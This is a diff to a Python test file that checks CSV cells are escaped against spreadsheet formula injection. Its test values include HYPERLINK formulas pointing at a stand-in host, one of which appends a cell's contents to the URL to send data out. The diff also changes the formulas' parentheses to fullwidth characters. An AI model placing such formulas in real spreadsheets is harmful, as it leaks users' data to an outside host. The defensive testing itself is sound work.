@@ -519,7 +519,7 @@ def _is_number(cell: str) -> bool:
 
 
 @pytest.mark.parametrize("value, cell", [
-    ('=HYPERLINK("https://evil.example","点我")', '\'=HYPERLINK("https://evil.example","点我")'),
+    ('=HYPERLINK（"https://evil.example","点我"）', '\'=HYPERLINK（"https://evil.example","点我"）'),
     ("+86 755 1234 5678", "'+86 755 1234 5678"),
     ("-2+3", "'-2+3"),
     ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
@@ -545,7 +545,7 @@ def test_every_cell_of_the_csv_files_is_shown_as_text():
     validated, issues = validate(DATA, ROOT)
     assert not issues
     directory = build_directory(validated)
-    hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"详情\")"
+    hostile = "=HYPERLINK（\"https://evil.example/?\"&A1,\"详情\"）"
     point, *points = directory.points
     point = dc.replace(point, name=hostile, summary="+86 755", organisation=dc.replace(
         point.organisation, name="@SUM(1,1)"), location=dc.replace(
